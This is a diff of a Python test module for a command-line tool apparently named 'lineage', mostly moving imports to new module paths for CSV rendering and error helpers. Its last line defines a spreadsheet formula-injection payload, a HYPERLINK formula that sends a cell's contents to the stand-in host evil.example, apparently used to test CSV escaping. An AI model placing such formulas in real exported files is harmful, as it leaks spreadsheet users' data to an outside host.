@@ -17,10 +17,16 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from lineage import answers
 from lineage.cli import main
-from lineage.errors import DatabaseUnavailable
-from lineage.output import FORMULA_PREFIXES, INCOMPLETE, atomic_file, csv_cell, render_csv
+from lineage.core.errors import DatabaseUnavailable
+from lineage.questions import datasets as answers
+from lineage.render.tables import (
+    FORMULA_PREFIXES,
+    INCOMPLETE,
+    atomic_file,
+    csv_cell,
+    render_csv,
+)
 from tests.helpers import load_riverside
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"RouteCo")'
